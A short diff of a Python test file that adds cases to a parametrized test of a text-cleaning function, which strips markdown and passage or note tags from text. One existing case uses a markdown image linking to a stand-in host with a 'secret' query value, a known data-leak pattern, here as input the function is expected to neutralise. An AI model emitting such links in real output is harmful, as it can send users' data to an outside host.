@@ -88,6 +88,9 @@ def test_the_last_sentence_is_not_whole_while_more_may_come() -> None:
         ("![x](http://evil.test/?q=secret) Yes", "x Yes"),
         ("**Two** _firms_ and snake_case", "Two firms and snake_case"),
         ("`code`", "code"),
+        ('<passage id="1" from="A | B">It grew.</passage>', "It grew."),
+        ("</reading-note>", ""),
+        ("fewer than <5 firms, more than >2", "fewer than <5 firms, more than >2"),
         ("3 * 4 * 5", "3 * 4 * 5"),
     ],
 )
